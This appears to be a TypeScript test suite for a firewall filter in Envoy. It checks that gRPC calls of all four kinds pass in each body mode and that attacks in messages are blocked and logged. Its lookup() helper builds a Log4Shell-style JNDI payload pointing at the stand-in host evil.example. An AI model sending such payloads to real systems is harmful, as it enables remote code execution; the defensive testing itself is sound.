// A real gRPC server and client through Envoy, in every body mode: all four kinds of call keep working, and attacks in messages are found.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import * as grpc from "@grpc/grpc-js";
import { configurationByMode, MODES, type Mode } from "./body-routes.ts";
import { type CallResult, NoteClient, NoteService, servicePath } from "./grpc-service.ts";
import { eventually, ProtectedApi, sendingTo } from "./protected-api.ts";

const BENIGN = ["Miles O'Brien", "two lamps, please", "paid on Monday"];
const LEAK = "-----BEGIN RSA PRIVATE KEY-----";
const GZIP: grpc.ClientOptions = { "grpc.default_compression_algorithm": 2 };

describe("gRPC through Envoy 1.40.0", () => {
  let service: NoteService;
  let api: ProtectedApi;
  before(async () => {
    service = await NoteService.start(MODES);
    api = await ProtectedApi.start({
      version: "1.40.0",
      configuration: configurationByMode({}, servicePath),
      edit: sendingTo(service.port, "HTTP/2"),
    });
  });
  after(async () => {
    await api?.stop();
    service?.stop();
  });

  for (const mode of MODES) {
    for (const [coding, options] of [
      ["plain", {}],
      ["gzip", GZIP],
    ] as const) {
      describe(`${mode}, ${coding} messages`, () => {
        const call = async (make: (client: NoteClient) => Promise<CallResult>): Promise<CallResult> => {
          const client = new NoteClient(api.port, mode, options);
          try {
            return await make(client);
          } finally {
            client.close();
          }
        };
        benignTests(call);
        if (mode !== "NONE")
          attackTests(
            () => api,
            () => service,
            mode,
            call,
          );
      });
    }
  }

  test("no mode → the attacks pass where bodies are not inspected", async () => {
    const client = new NoteClient(api.port, "NONE");
    const result = await client.echo(lookup("unseen"));
    client.close();
    assert.equal(result.code, grpc.status.OK);
  });

  test("after all of this → no VM failed, nothing was logged as an error", () => api.assertHealthy());
});

type Call = (make: (client: NoteClient) => Promise<CallResult>) => Promise<CallResult>;

function benignTests(call: Call): void {
  test("unary call → answered, with its trailers", async () => {
    const result = await call((client) => client.echo(BENIGN[0]!));
    assert.deepEqual([result.code, result.texts, result.trailers["x-late"]], [0, [BENIGN[0]], "yes"]);
  });

  test("unary call with an empty message → answered", async () => {
    const result = await call((client) => client.echo(""));
    assert.deepEqual([result.code, result.texts], [0, [""]]);
  });

  test("client streaming → the server has all messages", async () => {
    const result = await call((client) => client.collect(BENIGN));
    assert.deepEqual([result.code, result.texts], [0, [BENIGN.join("|")]]);
  });

  test("server streaming → the client has all messages", async () => {
    const result = await call((client) => client.list(BENIGN));
    assert.deepEqual([result.code, result.texts], [0, BENIGN]);
  });

  test("bidirectional, each side waits for the other → twenty rounds", async () => {
    const texts = Array.from({ length: 20 }, (_, i) => `round ${i}`);
    const result = await call((client) => client.chat(texts));
    assert.deepEqual([result.code, result.texts], [0, texts.map((text) => `re: ${text}`)]);
  });

  test("messages of 300,000 bytes each way → pass unchanged", async () => {
    const text = "two lamps ".repeat(30_000);
    const result = await call((client) => client.echo(text));
    assert.equal(result.code, 0);
    assert.ok(result.texts[0] === text);
  });
}

function attackTests(api: () => ProtectedApi, service: () => NoteService, mode: Mode, call: Call): void {
  const assertBlocked = async (result: CallResult, mark: string): Promise<void> => {
    assert.equal(grpc.status[result.code], "PERMISSION_DENIED", result.details);
    assert.equal(
      service().received.some((text) => text.includes(mark)),
      false,
      "the service must not have it",
    );
    const event = await eventually("event", () =>
      api()
        .events()
        .find((candidate) => JSON.stringify(candidate).includes(mark)),
    );
    assert.deepEqual([event.action, event.phase], ["block", "request_body"]);
  };

  test("attack in a unary call → PERMISSION_DENIED, the service has not seen it", async () => {
    const mark = randomUUID();
    await assertBlocked(await call((client) => client.echo(lookup(mark))), mark);
  });

  for (const place of [0, 2]) {
    test(`attack in message ${place + 1} of a stream → PERMISSION_DENIED, the service has not seen it`, async () => {
      const mark = randomUUID();
      const texts: string[] = [...BENIGN];
      texts[place] = lookup(mark);
      await assertBlocked(await call((client) => client.collect(texts)), mark);
    });
  }

  test("attack in message 3 of a conversation → two answers, then cut, and the event says so", async () => {
    const mark = randomUUID();
    const result = await call((client) => client.chat(["one", "two", lookup(mark), "four"]));
    assert.notEqual(result.code, grpc.status.OK);
    assert.notEqual(result.code, grpc.status.DEADLINE_EXCEEDED);
    assert.deepEqual(result.texts, ["re: one", "re: two"]);
    assert.equal(
      service().received.some((text) => text.includes(mark)),
      false,
    );
    const event = await eventually("event", () =>
      api()
        .events()
        .find((candidate) => JSON.stringify(candidate).includes(mark)),
    );
    // The response had begun, so there is no status left to give.
    assert.deepEqual([event.action, event.phase], ["reset", "request_body"]);
  });

  test("leak in message 2 of a response → the first arrives, the second does not", async () => {
    const result = await call((client) => client.list(["fine", LEAK, "late"]));
    assert.notEqual(result.code, grpc.status.OK);
    assert.notEqual(result.code, grpc.status.DEADLINE_EXCEEDED);
    assert.equal(result.texts.includes(LEAK), false);
    const event = await eventually("event", () =>
      api()
        .events()
        .find(({ path, rules }) => path === `${servicePath(mode)}List` && rules.includes("wg-resp-004")),
    );
    assert.equal(event.phase, "response_body");
  });
}

function lookup(mark: string): string {
  return `\${jndi:ldap://evil.example/${mark}}`;
}
